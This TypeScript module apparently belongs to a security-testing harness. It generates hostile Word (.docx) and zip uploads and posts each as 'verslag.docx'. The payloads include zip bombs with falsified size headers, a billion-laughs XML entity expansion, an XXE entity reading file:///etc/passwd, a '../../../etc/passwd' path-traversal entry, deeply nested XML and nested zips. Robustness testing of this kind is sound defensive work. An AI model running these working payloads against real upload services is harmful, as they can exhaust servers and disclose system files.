import { deflateRawSync, gzipSync } from 'node:zlib';
import { type Family, sort, upload } from '../attack.ts';

const MIB = 1024 * 1024;
const spaces = (bytes: number) => Buffer.alloc(bytes, ' ');

type Entry = { readonly name: string; readonly packed: Buffer; readonly size: number };

/** A zip with these entries, whatever sizes they tell. */
function zip(entries: readonly Entry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let at = 0;
  for (const { name, packed, size } of entries) {
    const head = Buffer.alloc(26);
    head.writeUInt16LE(20, 0);
    head.writeUInt16LE(8, 4);
    head.writeUInt32LE(packed.length, 14);
    head.writeUInt32LE(size, 18);
    head.writeUInt16LE(Buffer.byteLength(name), 22);
    const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), head, Buffer.from(name), packed]);
    const tail = Buffer.alloc(16);
    tail.writeUInt32LE(at, 12);
    centrals.push(
      Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), head, tail.subarray(2), Buffer.from(name)]),
    );
    locals.push(local);
    at += local.length;
  }
  const central = Buffer.concat(centrals);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(central.length, 8);
  end.writeUInt32LE(at, 12);
  return Buffer.concat([...locals, central, Buffer.from('PK\x05\x06', 'latin1'), end]);
}

const entry = (name: string, text: Buffer | string, size = Buffer.byteLength(text as string)): Entry => ({
  name,
  packed: deflateRawSync(text),
  size,
});
const TYPES = entry(
  '[Content_Types].xml',
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
);
const LINKS = entry(
  '_rels/.rels',
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
);
const page = (inside: string, head = '') =>
  `<?xml version="1.0"?>${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inside}</w:body></w:document>`;
const word = (text: Buffer | string, size?: number) => zip([TYPES, LINKS, entry('word/document.xml', text, size)]);

export const documents: Family = {
  name: 'Word files and zips',
  make: (ground, chance, index) => {
    const [says, bytes] = sort<readonly [string, () => Buffer]>(
      [
        ['much of nothing', () => word(spaces((50 + chance.whole(150)) * MIB))],
        ['paragraphs by the hundred thousand', () => word(page('<w:p/>'.repeat(300_000 + chance.whole(700_000))))],
        ['a size that lies low', () => word(spaces(30 * MIB), 10)],
        ['a size that lies high', () => word(page('<w:p/>'), 4_000_000_000)],
        [
          'entities that grow',
          () =>
            word(
              page(
                '&d;',
                '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
              ),
            ),
        ],
        ['an entity from outside', () => word(page('&x;', '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))],
        ['depth', () => word(page(`${'<w:p>'.repeat(40_000)}${'</w:p>'.repeat(40_000)}`))],
        [
          'a link to a script',
          () => word(page('<w:p><w:hyperlink r:id="x"><w:r><w:t>klik</w:t></w:r></w:hyperlink></w:p>')),
        ],
        [
          'names that climb',
          () => zip([TYPES, LINKS, entry('../../../etc/passwd', 'x'), entry('word/document.xml', page('<w:p/>'))]),
        ],
        [
          'sixty thousand entries',
          () => zip([TYPES, LINKS, ...Array.from({ length: 20_000 }, (_, i) => entry(`word/media/${i}`, 'x'))]),
        ],
        [
          'a zip in a zip in a zip',
          () => zip([entry('a.zip', zip([entry('b.zip', zip([entry('c', spaces(10 * MIB))]))]))]),
        ],
        [
          'cut off',
          () => {
            const whole = word(page('<w:p/>'));
            return whole.subarray(0, chance.whole(whole.length));
          },
        ],
        ['no page', () => zip([TYPES, LINKS])],
        ['a gzip named Word', () => gzipSync(spaces(30 * MIB))],
        ['noise behind a head', () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), chance.bytes(9_000)])],
      ],
      index,
    );
    return {
      says,
      shots: [
        upload(
          ground,
          'verslag.docx',
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
          bytes(),
        ),
      ],
    };
  },
};
